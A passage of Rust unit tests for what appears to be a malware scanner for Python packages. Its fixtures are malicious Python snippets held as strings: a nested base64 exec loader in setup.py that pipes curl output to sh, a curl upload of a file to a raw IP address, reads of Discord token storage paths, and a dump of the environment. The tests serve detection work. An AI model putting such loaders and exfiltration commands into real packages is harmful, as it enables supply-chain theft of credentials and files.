        assert_eq!(max_severity("p/pkg/m.py", local, "WH200"), 0.0);
    }

    #[test]
    fn comprehension_variables_hide_outer_names_of_the_same_spelling() {
        // `byte` read from a file outside; inside, it is each byte of the constant.
        let code = "import subprocess\ndef run(p, key):\n    byte = open(p, 'rb').read(1)\n    command = bytes([byte ^ key for byte in b'\\xae\\xa9\\xb2'])\n    subprocess.run(command.decode(), shell=True)\n";
        assert!(max_severity("p/pkg/m.py", code, "WH200") >= 0.25);
    }

    #[test]
    fn recursive_helpers_terminate() {
        let code = "import os\ndef f(x):\n    f(x + 'a')\n    os.system(x)\nf('echo hi')\n";
        assert!(!findings("p/pkg/m.py", code).is_empty());
    }

    #[test]
    fn module_name_passed_to_an_import_helper_is_not_obfuscation() {
        let code = "def vendored(name):\n    __import__(name, globals(), locals(), level=0)\nvendored('requests')\nvendored('os')\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH180") < 0.1);
    }
}

#[cfg(test)]
mod more_tests {
    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
    #![allow(clippy::indexing_slicing)]
    use super::programs_in_command;
    use crate::rules::testing::{findings, max_severity};

    #[test]
    fn literal_parts_of_f_strings_are_read() {
        let code = "import os\nroaming = os.getenv('APPDATA')\nPATHS = {'Discord': f'{roaming}/discord/Local Storage/leveldb/'}\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH140") >= 0.3);
        // A webhook URL whose id and token are variables is a client's template.
        let client = "def url(i, t):\n    return f'https://discord.com/api/webhooks/{i}/{t}'\n";
        assert_eq!(max_severity("p/pkg/webhook.py", client, "WH160"), 0.0);
    }

    #[test]
    fn programs_are_read_from_command_lines() {
        assert_eq!(
            programs_in_command("/usr/bin/python3 -m pkg.report --x"),
            vec!["pkg.report"]
        );
        assert_eq!(
            programs_in_command("[sys.executable, \"-m\", \"poc.mod\"]"),
            vec!["poc.mod"]
        );
        assert_eq!(
            programs_in_command("python3 ./pkg/helper.py"),
            vec!["pkg.helper"]
        );
        assert!(programs_in_command("git describe --tags").is_empty());
    }

    #[test]
    fn lambda_decoders_are_folded_through_every_layer() {
        // Two layers: the outer exec's payload calls the same lambda again.
        let inner = "import os\nos.system('curl https://example.invalid/x | sh')\n";
        let inner_b64 = base64_encode(inner.as_bytes());
        let middle = format!("exec(_(b'{inner_b64}'))\n");
        let middle_b64 = base64_encode(middle.as_bytes());
        let code =
            format!("_ = lambda s: __import__('base64').b64decode(s)\nexec(_(b'{middle_b64}'))\n");
        let found = findings("p/setup.py", &code);
        assert!(
            found.iter().any(|f| f.path.ends_with("#layer3")),
            "{found:?}"
        );
        assert!(max_severity("p/setup.py", &code, "WH110") >= 0.9);
        assert!(max_severity("p/setup.py", &code, "WH120") >= 0.9);
    }

    fn base64_encode(bytes: &[u8]) -> String {
        use base64::Engine;
        base64::engine::general_purpose::STANDARD.encode(bytes)
    }
}

#[cfg(test)]
mod partial_tests {
    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
    use crate::rules::testing::findings;

    #[test]
    fn partly_known_commands_keep_their_known_parts() {
        let code = "import os\ndef up(name):\n    command = \"curl -k -F \\\"file=@\" + name + \"\\\" https://45.13.22.9/upload\"\n    os.system(command)\n";
        let found = findings("p/pkg/api.py", code);
        assert!(
            found
                .iter()
                .any(|f| f.rule == "WH130" && f.has_tag("net-send")),
            "{found:?}"
        );
        // A partly known string is never a value: exec of it is not a literal layer.
        let code = "def f(x):\n    code = 'print(' + x + ')'\n    exec(code)\n";
        assert!(
            findings("p/pkg/m.py", code)
                .iter()
                .all(|f| !f.path.contains("#layer"))
        );
    }
}

#[cfg(test)]
mod cross_module_fact_tests {
    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
    use crate::{AnalysisOptions, CallerContext, analyze_python, analyze_python_called};
    use std::sync::Arc;

    #[test]
    fn attribute_calls_name_calls_through_other_objects_only() {
        let code = "import helper\nclass A:\n    def run(self):\n        self.own()\n        return helper.collect()\nclient().fetch()\n";
        let analysis = analyze_python("p/pkg/m.py", code.as_bytes(), &AnalysisOptions::default());
        assert_eq!(analysis.facts.attribute_calls, vec!["collect".to_owned()]);
    }

    #[test]
    fn returns_bound_from_a_sibling_are_not_exported_again() {
        let sibling = analyze_python(
            "p/pkg/_b.py",
            b"import os\ndef collect():\n    return dict(os.environ)\n",
            &AnalysisOptions::default(),
        );
        assert!(sibling.facts.exports.iter().any(|e| e.name == "collect"));
        let caller = CallerContext {
            imported: vec![("._b".to_owned(), Arc::clone(&sibling.facts.exports))],
            ..CallerContext::default()
        };
        let importer = analyze_python_called(
            "p/pkg/__init__.py",
            b"import os\nfrom ._b import collect\ndef user():\n    return os.getlogin()\n",
            &AnalysisOptions::default(),
            &caller,
        );
        let names: Vec<&str> = importer
            .facts
            .exports
            .iter()
            .map(|e| e.name.as_str())
            .collect();
        assert!(names.contains(&"user"), "{names:?}");
        assert!(!names.contains(&"collect"), "{names:?}");
    }
}
